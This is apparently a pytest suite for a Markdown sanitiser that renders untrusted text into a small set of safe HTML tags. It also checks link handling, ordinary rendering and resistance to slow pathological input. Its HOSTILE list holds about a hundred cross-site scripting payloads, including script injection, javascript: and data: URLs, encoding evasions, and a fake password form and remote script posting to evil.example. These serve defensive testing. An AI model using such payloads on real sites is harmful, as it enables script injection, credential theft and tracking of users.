"""Markdown that somebody else wrote becomes HTML of a few tags, and nothing in it can act."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from registry.formats.markdown import MOST, as_safe_html

TAGS = {
    *("a", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"),
    *("strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "del"),
}
ATTRIBUTES = {"href", "rel", "scope"}


class _Read(HTMLParser):
    """What a browser finds: tags, attributes, comments and the text between."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.others: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    @property
    def links(self) -> list[str]:
        return [value or "" for name, value in self.attributes if name == "href"]


def _assert_harmless(text: str) -> _Read:
    read = _Read(as_safe_html(text))
    assert read.tags <= TAGS
    assert {name for name, _value in read.attributes} <= ATTRIBUTES
    assert all(link.startswith(("https://", "mailto:")) for link in read.links), read.links
    assert read.others == []
    return read


HOSTILE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//", "<svg onload=alert(1)>", "<svg><script>alert(1)</script>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>", "<math><mi xlink:href='data:x'>x",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example/>", "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<object data=x></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<embed src=x>",
    "<!-- a comment -->", "<!--><script>alert(1)</script>-->", "<!DOCTYPE html>", "<?php x ?>",
    "<![CDATA[<script>alert(1)</script>]]>", "<a href='javascript:alert(1)'>x</a>",
    "<p style='position:fixed;inset:0'>x</p>", "<div onclick=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<template><script>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea>",
    "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<title></title><script>alert(1)",
    "</p></div></main><script>alert(1)</script>", "<a\nhref=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)", "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))", "[x](javascript&#58;alert(1))", "[x](\\javascript:a)",
    "[x](java&Tab;script:alert(1))", "[x](java&NewLine;script:alert(1))", "[x](%6Aavascript:a)",
    "[x](\x01javascript:alert(1))", "[x](\u00a0javascript:alert(1))", "[x](\u200bjavascript:a)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](data:image/svg+xml,<svg onload=a>)",
    "[x](data:image/png;base64,AAAA)", "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)",
    "[x](blob:https://x/y)", "[x](view-source:https://x)", "[x](ftp://x)", "[x](http://x)",
    "[x](tel:112)", "[x](about:blank)", "[x](intent://x#Intent;end)", "[x](//evil.example)",
    "[x](\\\\evil.example)", "[x](/logout)", "[x](../../admin/)", "[x](#here)", "[x](?a=b)",
    "[x](LICENSE.md)", "<javascript:alert(1)>", "<data:text/html,x>", "<vbscript:x>",
    "<JAVASCRIPT:alert(1)>", "<x:y>", "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]: data:text/html,x 'title'\n\n[y]", "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)", "![x](data:image/svg+xml,<svg/onload=a>)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[x](https://x.example 'a\" onmouseover=\"alert(1)')", "[x](https://x.example\"onclick=alert)",
    "[x](https://x.example/' onmouseover='alert(1))", "[<script>](https://x.example)",
    "`<script>alert(1)</script>`", "```\"><script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>",
    "# <script>alert(1)</script>", "<h1 onclick=alert(1)>x</h1>", "> <script>alert(1)</script>",
    "| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=a> | [x](javascript:a) |",
    "| a |\n|:-:|\n| b |", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "\\<script>alert(1)\\</script>", "**<script>**alert(1)**</script>**", "<\x00script>alert(1)",
    "\ufeff<script>alert(1)</script>", "＜script＞alert(1)", "<script\u2028>alert(1)</script>",
]  # fmt: skip


MARKS = ["\n", "\n\n", "> ", "- ", "`", "*", "|", "<", ">", "](", "[", '"', "'", "&", "~~~\n"]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:50])
def test_nothing_that_could_act_is_left(text: str) -> None:
    _assert_harmless(text)


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:50])
def test_nor_in_the_midst_of_a_list_in_a_quote(text: str) -> None:
    _assert_harmless("\n".join(f"> - {line}" for line in text.split("\n")))


def test_nor_in_all_of_it_at_once() -> None:
    _assert_harmless("\n\n".join(HOSTILE))


@settings(max_examples=200, deadline=None)
@given(parts=st.lists(st.sampled_from([*HOSTILE, *MARKS]), max_size=12))
def test_nor_in_any_mixture(parts: list[str]) -> None:
    _assert_harmless("".join(parts))


@settings(max_examples=200, deadline=None)
@given(text=st.text(st.sampled_from("<>&\"'`[]()!*_#|:-=/\\ \n\tabhjps;0x"), max_size=120))
def test_nor_in_any_text(text: str) -> None:
    _assert_harmless(text)


def test_html_is_shown_as_the_text_that_it_is() -> None:
    assert _assert_harmless("<b>bold</b> & <i>so</i>").text.strip() == "<b>bold</b> & <i>so</i>"


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("[x](https://example.org/a?b=c&d=e#f)", "https://example.org/a?b=c&d=e#f"),
        ("<https://example.org/>", "https://example.org/"),
        ("[x](HTTPS://example.org)", "HTTPS://example.org"),
        ("[x](mailto:modelle@example.org)", "mailto:modelle@example.org"),
        ("<modelle@example.org>", "mailto:modelle@example.org"),
        ("[x][1]\n\n[1]: https://example.org", "https://example.org"),
    ],
)
def test_links_to_the_web_and_to_mailboxes_stay(text: str, link: str) -> None:
    read = _Read(as_safe_html(text))

    assert read.links == [link]


def test_a_link_lends_the_portals_name_to_nobody() -> None:
    read = _Read(as_safe_html("[x](https://example.org)"))

    assert ("rel", "noopener noreferrer nofollow ugc") in read.attributes


def test_a_link_that_leads_nowhere_leaves_its_words() -> None:
    assert _assert_harmless("[the licence](LICENSE.md)").text.strip() == "the licence"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# One", "<h3>One</h3>"), ("## Two", "<h4>Two</h4>"), ("### Three", "<h5>Three</h5>"),
        ("#### Four", "<h6>Four</h6>"), ("###### Six", "<h6>Six</h6>"),
        ("Two\n---", "<h4>Two</h4>"), ("*a* **b**", "<p><em>a</em> <strong>b</strong></p>"),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"), ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("```python\n1 < 2\n```", "<pre><code>1 &lt; 2\n</code></pre>"),
        ("Straße 🦊", "<p>Straße 🦊</p>"),
    ],
)  # fmt: skip
def test_what_markdown_is_for_is_there(text: str, html: str) -> None:
    assert as_safe_html(text).strip() == html


def test_a_table_is_a_table() -> None:
    read = _assert_harmless("| a | b |\n|---|--:|\n| 1 | 2 |")

    assert {"table", "thead", "tbody", "tr", "th", "td"} <= read.tags


@pytest.mark.parametrize("unit", [">", "> ", "- ", "1. ", "> - ", "* > ", "**", "[", "![", "<b>"])
def test_thousands_of_levels_are_harmless(unit: str) -> None:
    _assert_harmless(unit * 5000 + "x")


@pytest.mark.parametrize(
    "unit",
    [
        "[", "![", "[a](", "[a](<b", "*a**b", "*a _b ", "- a\n", "> a\n", ">", "- ", "`", "`a``b",
        "<", "<!-- ", "<![CDATA[", "|a|b|\n|-|-|\n", "|", "[a]: b\n", "\\", "<https://a.b>", "_",
        "&#x6a;", "*_`[", "[[a](b)", "# a\n", "~~~\n", "[a](b \"", "word ",
    ],
    ids=ascii,
)  # fmt: skip
@pytest.mark.parametrize("size", [MOST, 500_000])
def test_a_long_card_made_to_be_slow_is_not(unit: str, size: int) -> None:
    text = (unit * size)[:size]
    start = time.process_time()

    as_safe_html(text)

    assert time.process_time() - start < 5  # a tenth of it where nothing else runs


def test_what_is_too_long_is_shown_as_it_is_written() -> None:
    text = "# <script>alert(1)</script>\n" * 20_000

    read = _assert_harmless(text)

    assert (read.tags, read.text) == ({"pre"}, text)
